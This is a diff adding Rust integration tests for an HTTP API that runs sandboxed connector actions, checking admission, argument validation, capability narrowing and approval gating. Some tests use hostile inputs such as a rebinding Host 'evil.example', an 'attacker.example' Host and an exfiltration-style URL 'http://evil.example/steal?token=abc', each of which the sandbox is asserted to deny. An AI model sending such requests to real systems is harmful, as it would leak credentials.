@@ -1,0 +1,215 @@
+//! The HTTP API through `app()` with `oneshot`: admission (Host, Origin, token), the action
+//! lifecycle, argument validation, and runs against a real loopback upstream.
+
+use aileron::fake_github::FakeGithub;
+use http::{Request, StatusCode};
+use serde_json::json;
+
+use crate::support::{ActionSpec, Harness, PORT, TOKEN, guest_wasm, manifest};
+
+#[tokio::test]
+async fn admission_checks_host_origin_and_token() {
+    let harness = Harness::new();
+    let health = harness.send(Request::builder().uri("/v1/health").header("host", format!("127.0.0.1:{PORT}")), None).await;
+    assert_eq!(health.status, StatusCode::OK);
+    assert!(health.headers.contains_key("x-request-id"), "every response carries X-Request-ID");
+
+    let cases = [
+        ("no token", format!("127.0.0.1:{PORT}"), None, None, StatusCode::UNAUTHORIZED),
+        ("wrong token", format!("127.0.0.1:{PORT}"), Some("Bearer nope"), None, StatusCode::UNAUTHORIZED),
+        ("rebinding host", "evil.example:80".to_string(), Some(TOKEN), None, StatusCode::FORBIDDEN),
+        ("other port", "127.0.0.1:1".to_string(), Some(TOKEN), None, StatusCode::FORBIDDEN),
+        ("foreign origin", format!("127.0.0.1:{PORT}"), Some(TOKEN), Some("http://evil.example"), StatusCode::FORBIDDEN),
+        ("own origin", format!("localhost:{PORT}"), Some(TOKEN), Some(&*format!("http://127.0.0.1:{PORT}")), StatusCode::OK),
+        ("admin token", format!("127.0.0.1:{PORT}"), Some(TOKEN), None, StatusCode::OK),
+    ];
+    for (label, host, token, origin, expected) in cases {
+        let mut builder = Request::builder().uri("/v1/status").header("host", host);
+        if let Some(token) = token {
+            let value = if token.starts_with("Bearer ") { token.to_string() } else { format!("Bearer {token}") };
+            builder = builder.header("authorization", value);
+        }
+        if let Some(origin) = origin {
+            builder = builder.header("origin", origin);
+        }
+        let response = harness.send(builder, None).await;
+        assert_eq!(response.status, expected, "{label}: {}", response.body);
+        assert!(response.headers.contains_key("x-request-id"), "{label}");
+    }
+    let forged = harness.send(Request::builder().uri("/v1/health").header("host", "attacker.example"), None).await;
+    assert_eq!(forged.status, StatusCode::FORBIDDEN, "even health checks the Host");
+}
+
+#[tokio::test]
+async fn action_lifecycle_add_list_disable_enable_remove() {
+    let harness = Harness::new();
+    let hash = harness.install("echo", &guest_wasm("echo"), &manifest("echo", &[], "")).await;
+    let spec = ActionSpec { inputs: &[("message", "string", true)], ..ActionSpec::new("say-hello", "echo", &hash, "echo") };
+    let added = harness.add_action("say-hello.md", &spec.render()).await;
+    assert_eq!(added.status, StatusCode::CREATED, "{}", added.body);
+    assert_eq!(added.body["tool_name"], "say_hello");
+
+    let listing = harness.request("GET", "/v1/actions", None).await;
+    assert_eq!(listing.body["items"][0]["name"], "say-hello");
+    assert_eq!(listing.body["items"][0]["input_schema"]["required"], json!(["message"]));
+    assert_eq!(listing.body["load_errors"], json!([]));
+
+    let disabled = harness.request("PATCH", "/v1/actions/say-hello", Some(json!({"enabled": false}))).await;
+    assert_eq!(disabled.body["enabled"], false);
+    let refused = harness.run("say-hello", json!({"message": "hi"})).await;
+    assert_eq!(refused.status, StatusCode::CONFLICT);
+    assert_eq!(refused.body["error"]["code"], "action_disabled");
+    assert!(std::fs::read_to_string(harness.home.action_state()).unwrap().contains("false"), "state overlay persisted");
+
+    harness.request("PATCH", "/v1/actions/say-hello", Some(json!({"enabled": true}))).await;
+    let ran = harness.run("say-hello", json!({"message": "hi"})).await;
+    assert_eq!(ran.status, StatusCode::OK, "{}", ran.body);
+    assert_eq!(ran.body["result"]["action"], "say-hello");
+    assert_eq!(ran.body["result"]["output"]["args"]["message"], "hi");
+    let audit_id = ran.body["audit_id"].as_str().unwrap();
+    let records = harness.audit_for(audit_id).await;
+    assert_eq!(records.len(), 1);
+    assert_eq!(records[0]["event_type"], "action.executed");
+    assert_eq!(records[0]["payload"]["aileron.action.name"], "say-hello");
+    assert!(!records[0].to_string().contains("\"hi\""), "argument values are not audited");
+
+    let removed = harness.request("DELETE", "/v1/actions/say-hello", None).await;
+    assert_eq!(removed.status, StatusCode::NO_CONTENT);
+    assert!(!harness.home.actions_dir().join("say-hello.md").exists());
+    let gone = harness.run("say-hello", json!({})).await;
+    assert_eq!(gone.status, StatusCode::NOT_FOUND);
+    assert!(gone.body["error"]["hint"].as_str().unwrap().contains("aileron action list"));
+}
+
+#[tokio::test]
+async fn adding_an_action_checks_its_connectors_and_parses_strictly() {
+    let harness = Harness::new();
+    let missing = ActionSpec::new("orphan", "echo", "sha256:0000000000000000000000000000000000000000000000000000000000000000", "echo");
+    let response = harness.add_action("orphan.md", &missing.render()).await;
+    assert_eq!(response.status, StatusCode::CONFLICT);
+    assert_eq!(response.body["error"]["code"], "connector_not_installed");
+    assert!(response.body["error"]["hint"].as_str().unwrap().contains("aileron connector install"));
+
+    let hash = harness.install("echo", &guest_wasm("echo"), &manifest("echo", &[], "")).await;
+    let text = ActionSpec::new("typo", "echo", &hash, "echo").render().replace("[match]", "[match]\nintnet = \"x\"");
+    let response = harness.add_action("typo.md", &text).await;
+    assert_eq!(response.status, StatusCode::BAD_REQUEST);
+    assert_eq!(response.body["error"]["code"], "parse_error");
+    let message = response.body["error"]["message"].as_str().unwrap();
+    assert!(message.contains("typo.md:") && message.contains("intnet"), "{message}");
+
+    let widening = ActionSpec { capabilities: &["echo", "network:evil.example:443"], ..ActionSpec::new("wide", "echo", &hash, "echo") };
+    let response = harness.add_action("wide.md", &widening.render()).await;
+    assert_eq!(response.status, StatusCode::BAD_REQUEST, "{}", response.body);
+    assert_eq!(response.body["error"]["code"], "invalid_capabilities");
+}
+
+#[tokio::test]
+async fn call_arguments_are_validated_and_author_fixed_inputs_win() {
+    let harness = Harness::new();
+    let hash = harness.install("echo", &guest_wasm("echo"), &manifest("echo", &[], "")).await;
+    let spec = ActionSpec {
+        inputs: &[("owner", "string", true), ("count", "integer", false), ("channel", "string", false)],
+        step_inputs: "channel = \"#fixed-by-author\"\nsummary = \"${args.owner} has ${args.count}\"",
+        ..ActionSpec::new("pinned", "echo", &hash, "echo")
+    };
+    assert_eq!(harness.add_action("pinned.md", &spec.render()).await.status, StatusCode::CREATED);
+
+    let undeclared = harness.run("pinned", json!({"owner": "acme", "token": "x"})).await;
+    assert_eq!(undeclared.status, StatusCode::BAD_REQUEST);
+    assert_eq!(undeclared.body["error"]["code"], "invalid_args");
+    let message = undeclared.body["error"]["message"].as_str().unwrap();
+    assert!(message.contains("token") && message.contains("owner") && message.contains("count"), "{message}");
+
+    let missing = harness.run("pinned", json!({"count": 1})).await;
+    assert_eq!(missing.body["error"]["code"], "invalid_args");
+    let wrong_type = harness.run("pinned", json!({"owner": "acme", "count": "three"})).await;
+    assert_eq!(wrong_type.body["error"]["code"], "invalid_args");
+
+    let ran = harness.run("pinned", json!({"owner": "acme", "count": 3, "channel": "#agent-choice"})).await;
+    assert_eq!(ran.status, StatusCode::OK, "{}", ran.body);
+    let args = &ran.body["result"]["output"]["args"];
+    assert_eq!(args["channel"], "#fixed-by-author", "a value fixed by the author wins over the call");
+    assert_eq!(args["summary"], "acme has 3");
+    assert_eq!(args["count"], 3);
+}
+
+#[tokio::test]
+async fn outbound_http_reaches_declared_hosts_and_is_denied_elsewhere() {
+    let upstream = FakeGithub::start().await.unwrap();
+    let harness = Harness::new();
+    harness
+        .guest_action("http_get", &[upstream.host_port()], "get", |spec| spec.inputs = &[("url", "string", true)])
+        .await;
+
+    let ok = harness.run("http_get", json!({"url": format!("{}/repos/a/b/issues", upstream.base_url())})).await;
+    assert_eq!(ok.status, StatusCode::OK, "{}", ok.body);
+    assert_eq!(ok.body["result"]["output"]["status"], 200);
+    assert_eq!(upstream.recorder.count(), 1);
+
+    let other_port = "http://127.0.0.1:1/x".to_string();
+    for (url, requested) in [
+        ("http://evil.example/steal?token=abc".to_string(), "network:evil.example:80"),
+        (other_port, "network:127.0.0.1:1"),
+    ] {
+        let denied = harness.run("http_get", json!({ "url": url })).await;
+        assert_eq!(denied.status, StatusCode::FORBIDDEN, "{url}: {}", denied.body);
+        let error = &denied.body["error"];
+        assert_eq!(error["class"], "capability_denied");
+        assert_eq!(error["boundary"], "sandbox");
+        assert!(error["details"]["requested"].as_str().unwrap().starts_with(requested), "{error}");
+        let audit_id = error["audit_id"].as_str().unwrap();
+        let records = harness.audit_for(audit_id).await;
+        assert_eq!(records.len(), 1, "one failure record with the envelope's audit_id");
+        assert_eq!(records[0]["event_type"], "execution.failed");
+        assert_eq!(records[0]["payload"]["aileron.failure.class"], "capability_denied");
+    }
+    assert_eq!(upstream.recorder.count(), 1, "denied calls never reach the network");
+    let rejected: Vec<_> = harness.audit().await.into_iter().filter(|r| r["event_type"] == "connector.proxy.rejected").collect();
+    assert_eq!(rejected.len(), 2);
+    assert!(rejected.iter().all(|r| !r.to_string().contains("token=abc")), "query strings are never audited");
+    let proxied: Vec<_> = harness.audit().await.into_iter().filter(|r| r["event_type"] == "connector.proxy.proxied").collect();
+    assert_eq!(proxied.len(), 1);
+    assert_eq!(proxied[0]["payload"]["aileron.proxy.upstream.status"], 200);
+    assert_eq!(proxied[0]["payload"]["aileron.proxy.upstream.path"], "/repos/a/b/issues");
+}
+
+#[tokio::test]
+async fn an_action_subset_narrows_the_manifest_hosts() {
+    let upstream = FakeGithub::start().await.unwrap();
+    let other = FakeGithub::start().await.unwrap();
+    let harness = Harness::new();
+    let subset = format!("network:{}", upstream.host_port());
+    let capabilities = ["get", subset.as_str()];
+    let manifest_text = manifest("http_get", &[upstream.host_port(), other.host_port()], "");
+    let hash = harness.install("http_get", &guest_wasm("http_get"), &manifest_text).await;
+    let spec = ActionSpec {
+        inputs: &[("url", "string", true)],
+        capabilities: &capabilities,
+        ..ActionSpec::new("http_get", "http_get", &hash, "get")
+    };
+    assert_eq!(harness.add_action("http_get.md", &spec.render()).await.status, StatusCode::CREATED);
+    let allowed = harness.run("http_get", json!({"url": format!("{}/status/200", upstream.base_url())})).await;
+    assert_eq!(allowed.status, StatusCode::OK, "{}", allowed.body);
+    let narrowed = harness.run("http_get", json!({"url": format!("{}/status/200", other.base_url())})).await;
+    assert_eq!(narrowed.status, StatusCode::FORBIDDEN);
+    assert_eq!(narrowed.body["error"]["boundary"], "action");
+    assert!(narrowed.body["error"]["details"]["declared_subset"].is_array());
+    assert_eq!(other.recorder.count(), 0);
+}
+
+#[tokio::test]
+async fn gated_actions_are_refused_and_never_executed() {
+    let upstream = FakeGithub::start().await.unwrap();
+    let harness = Harness::new();
+    harness
+        .guest_action("http_get", &[upstream.host_port()], "get", |spec| {
+            spec.inputs = &[("url", "string", true)];
+            spec.approval = true;
+        })
+        .await;
+    let refused = harness.run("http_get", json!({"url": format!("{}/status/200", upstream.base_url())})).await;
+    assert_eq!(refused.status, StatusCode::CONFLICT, "{}", refused.body);
+    assert_eq!(refused.body["error"]["code"], "approval_unavailable");
+    assert_eq!(upstream.recorder.count(), 0, "a gated action never executes without approval");
+}
